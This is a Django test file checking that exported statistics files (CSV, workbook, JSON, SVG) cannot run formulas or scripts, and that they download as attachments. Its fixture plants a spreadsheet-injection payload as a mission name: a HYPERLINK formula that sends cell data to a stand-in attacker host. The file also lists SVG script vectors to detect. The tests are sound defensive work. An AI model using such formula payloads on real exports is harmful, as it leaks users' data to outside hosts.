"""Files that leave: no cell is run by a spreadsheet program, no name of a file breaks its header."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import date

import openpyxl
import pytest
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse

from palermo.access.models import Account, Role
from palermo.statistics.definitions import load_definitions
from tests.cases.factory import make_case, make_mission

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clean_extracts")]
FORMULA = '=HYPERLINK("https://attacker.example/"&A1)'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def reader(client: Client, account_of: Callable[..., Account]) -> Client:
    for code, name in (("UKR", FORMULA), ("MDA", "@SUM(1)"), ("BLR", "+1-1")):
        make_case(
            make_mission(code, name=name),
            registered_on=date(2011, 2, 3),
            sex="female",
            facts={"sex": "female"},
            event={"exploitation_type": ["forced_labour"]},
        )
    make_mission("ALB", name=FORMULA)
    client.force_login(account_of(Role.DATA_STEWARD))
    return client


def files(reader: Client, kind: str) -> list[tuple[str, HttpResponse]]:
    found = []
    for name in load_definitions().tables:
        response = reader.get(reverse("statistics_file", kwargs={"name": name, "kind": kind}))
        if response.status_code == 200:
            found.append((name, response))
    assert found
    return found


def test_no_cell_of_a_csv_file_is_a_formula(reader: Client) -> None:
    seen = ""
    for name, response in files(reader, "csv"):
        text = response.content.decode("utf-8-sig")
        seen += text
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(STARTS) or cell.lstrip("-").isdecimal(), (name, cell)
    assert "HYPERLINK" not in seen, "a name that somebody typed has reached a cell: it must be made inert"


def test_no_cell_of_a_workbook_is_a_formula(reader: Client) -> None:
    for name, response in files(reader, "xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, cell.value)
                    assert not str(cell.value).startswith(("=", "@")), (name, cell.value)


def test_the_codebook_starts_no_formula(reader: Client) -> None:
    for what in ("variables", "codes", "countries", "regions", "mappings"):
        response = reader.get(reverse("codebook_download", kwargs={"what": what, "form": "csv"}))
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))):
            assert not [cell for cell in row if cell.startswith(("=", "@", "\t", "\r"))]


def test_files_are_taken_along_and_not_shown(reader: Client) -> None:
    addresses = [
        reverse("statistics_file", kwargs={"name": "table08_sex", "kind": kind})
        for kind in ("csv", "json", "xlsx")
    ]
    addresses += [
        reverse("codebook_download", kwargs={"what": "codes", "form": form}) for form in ("csv", "json")
    ]
    addresses += [reverse("statistics_picture", kwargs={"name": "figure4_sex", "kind": "svg"})]
    for address in addresses:
        response = reader.get(address)
        assert response.status_code == 200
        disposition = response["Content-Disposition"]
        assert disposition.startswith('attachment; filename="')
        assert all(sign.isalnum() or sign in ' ;="._-' for sign in disposition)
        assert response["X-Content-Type-Options"] == "nosniff"
        assert not response["Content-Type"].startswith("text/html")


def test_a_picture_runs_nothing(reader: Client) -> None:
    address = reverse("statistics_picture", kwargs={"name": "figure4_sex", "kind": "svg"})
    picture = reader.get(address).content.decode()
    for word in ("<script", "onload", "javascript:", "foreignObject", "<!ENTITY", 'href="http'):
        assert word not in picture


def test_json_is_json(reader: Client) -> None:
    for name, response in files(reader, "json"):
        assert response["Content-Type"].startswith("application/json"), name
        json.loads(response.content)
